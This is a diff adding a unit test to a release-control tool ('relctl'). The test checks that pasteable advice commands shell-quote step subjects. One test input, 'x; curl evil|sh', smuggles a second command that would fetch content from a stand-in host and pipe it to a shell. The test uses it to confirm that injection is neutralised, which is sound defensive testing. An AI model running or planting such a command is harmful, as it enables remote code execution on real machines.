@@ -101,6 +101,31 @@ TEST_CASE("the advice names who must act and the command to paste") {
   CHECK(advice.back == "relctl rollback --to 1.0.0 -y");
 }
 
+TEST_CASE("a command to paste takes what a step reported, and what a shell reads, as one word") {
+  plan::Plan plan = a_plan();
+  plan::Step deploy = a_step("deploy", {"./deploy"});
+  deploy.each = plan::Each{"node", {"n1", "n2"}};
+  plan.steps.push_back(deploy);
+  plan.phases[0].enter.push_back("deploy");
+  Given given(plan);
+  given.ready().started("p5");
+  const auto command = [&](Cause cause, const std::string& subject) {
+    core::VerdictReached held = held_on({cause});
+    held.reasons[0].subject = subject;
+    given.event(held);
+    return core::advise(given.plan, given.state, "relctl").command;
+  };
+  CHECK(command(Cause::item, "x; curl evil|sh") ==
+        "relctl item close 'x; curl evil|sh' --reason WHY");
+  CHECK(command(Cause::incident, "it's 3") == "relctl incident close 'it'\\''s 3'");
+  CHECK(command(Cause::exposure, "shift[a]") == "relctl resolve 'shift[a]' rerun --reason WHY");
+  const core::StepAddress address{"main", "p5", "enter", "deploy[n1]"};
+  given.event(core::StepStarted{address, 1, core::Part::act, "k", "", seconds(10)});
+  given.event(failed(address));
+  CHECK(command(Cause::step_failed, "deploy[n1]") ==
+        "relctl resolve 'deploy[n1]' rerun --reason WHY");
+}
+
 TEST_CASE("a step in trouble before any verdict is said, and a person is asked only where relctl "
           "cannot settle it") {
   const bool idempotent = GENERATE(true, false);
